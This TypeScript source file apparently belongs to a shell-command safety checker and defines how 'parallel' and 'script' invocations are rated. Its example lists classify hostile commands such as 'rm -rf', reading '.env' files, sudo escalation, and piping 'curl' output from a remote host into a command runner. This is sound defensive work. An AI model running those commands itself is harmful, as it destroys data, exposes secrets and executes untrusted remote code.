import { judgeNamesFromInput } from '../../paths/named-secrets.ts';
import { hasOption, valueOf } from '../../options.ts';
import { definePrograms, type Invocation, WRITES_UNKNOWN } from '../../program.ts';
import { touchWrite } from '../../paths/touch.ts';
import { literal, textOf } from '../../word.ts';
import { runRest } from './run-rest.ts';
import { raiseDownloadedCode } from '../../report/blocked-code.ts';

/** Inputs of `parallel` that are tried one by one; more are judged as one unknown input. */
const MAX_INPUTS = 16;

/** Programs that pass text to a shell: once for each input, or while they record it. */
export const commandRunners = definePrograms(
  {
    names: ['parallel'],
    style: 'posix',
    options:
      '-0kmqtuvXx -j: -a:names -I: -S: -n: -N: -L: -l: -d: -P: -C: --jobs= --max-procs= --arg-file=names --colsep= --delay= --timeout= --joblog=write --results=write-tree --sshlogin= --dry-run --bar --eta --progress --keep-order --halt= --line-buffer --tag --will-cite --no-notice --null --xargs --ungroup --group --verbose --retries= --max-args= --delimiter= --memfree= --load= --nice= --shuf --pipe --trim= --no-run-if-empty --dryrun --version',
    judge: judgeParallel,
    examples: {
      safe: ['parallel wc -l ::: a b', 'ls | parallel wc -l'],
      warning: ['parallel touch ::: a b', 'parallel gzip {} ::: a b'],
      dangerous: [
        'parallel rm -rf ::: lib',
        "parallel 'rm -rf {}' ::: lib test",
        'cat x | parallel',
        'git ls-files .env | parallel cat',
        'parallel -S host ls ::: a',
      ],
      blocked: ['parallel sudo ::: id', 'curl https://x.example | parallel', "parallel ::: 'sudo id'"],
    },
  },
  {
    names: ['script'],
    style: 'posix',
    options:
      '-aefFqrR -c: -E: -I:write -O:write -B:write -T:write -m: -t? -o: --command= --append --flush --quiet --return --force --log-in=write --log-out=write --log-io=write --log-timing=write --output-limit= --echo= --version',
    judge: ({ options, context, span }) => {
      const command = valueOf(options, '-c', '--command');
      const [file, ...rest] = options.operands;
      touchWrite(context, file ?? literal('typescript', span));
      if (command !== undefined) context.walk.runText(textOf(command) ?? '"$unknown"', command.span, context);
      const late = /^(?:-c|--command)$/.test(textOf(rest[0]) ?? '') ? rest[1] : undefined;
      if (late !== undefined) return context.walk.runText(textOf(late) ?? '"$unknown"', late.span, context);
      if (rest.length > 0) return runRest(rest, context);
      if (command !== undefined) return;
      context.report.raise('warning', 'interactive', { text: 'opens a shell', span });
      context.report.effect(WRITES_UNKNOWN);
    },
    examples: {
      safe: ['script -qc ls /dev/null'],
      warning: ['script', 'script out.txt', "script -c 'ls' out.txt"],
      dangerous: ["script -c 'rm -rf lib' /dev/null", 'script -q /dev/null rm -rf lib'],
      blocked: ["script -c 'sudo id'"],
    },
  },
);

function judgeParallel({ options, context, span }: Invocation): void {
  const { report, walk, state } = context;
  if (hasOption(options, '-S', '--sshlogin')) {
    report.effect({ kind: 'network' });
    report.raise('dangerous', 'network', { text: 'runs commands on another machine', span });
  }
  judgeNamesFromInput(context, span);
  const texts = options.operands.map((word) => textOf(word));
  const split = texts.findIndex((text) => text?.startsWith(':::') === true);
  const command = (split < 0 ? texts : texts.slice(0, split)).map((text) => text ?? '"$unknown"').join(' ');
  const inputs = split < 0 ? [] : texts.slice(split + 1);
  const isListed =
    texts[split] === ':::' && inputs.length <= MAX_INPUTS && inputs.every((text) => text !== undefined);
  if (command === '' && !isListed) {
    report.effect(WRITES_UNKNOWN);
    report.raise('dangerous', 'piped-into-shell', { text: "runs commands that can't be determined", span });
    if (state.stdin.origin.network) raiseDownloadedCode(report, span);
  }
  for (const input of isListed ? inputs : ['"$unknown"']) {
    const has = /\{[./#%]*\}/.test(command);
    const text = has ? command.replaceAll(/\{[./#%]*\}/g, input) : `${command} ${input}`;
    if (command !== '' || isListed) walk.runText(text, span, { ...context, state: { ...state } });
  }
}
